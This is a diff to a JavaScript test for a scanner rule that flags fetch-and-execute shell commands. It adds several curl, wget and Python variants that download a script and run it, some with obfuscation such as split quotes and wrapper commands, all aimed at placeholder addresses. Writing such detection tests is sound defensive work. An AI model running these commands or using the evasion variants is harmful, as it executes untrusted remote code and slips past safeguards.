@@ -32,6 +32,13 @@ test("a script that is fetched and run is reported, in each way of running it", 
     `X=1 curl ${X} | /bin/sh`,
     `\`curl ${X}\`; sh -c \`curl ${X}\``,
     `curl "$ADDRESS" | sh`,
+    `curl ${X} | (sh)`,
+    `curl ${X} | { sh; }`,
+    `curl ${X} | xargs -0 sh -c`,
+    `time -p curl ${X} | nice -n 5 sh`,
+    `busybox wget -O- ${X} | busybox sh`,
+    `cu''rl ${X} | s"h"`,
+    `python3 -c "import urllib.request as u;exec(u.urlopen('${X}').read())"`,
     `curl get.example.com | sh`,
   ];
   for (const way of ways) assert.deepEqual(rules(way), ["remote-script"], way);
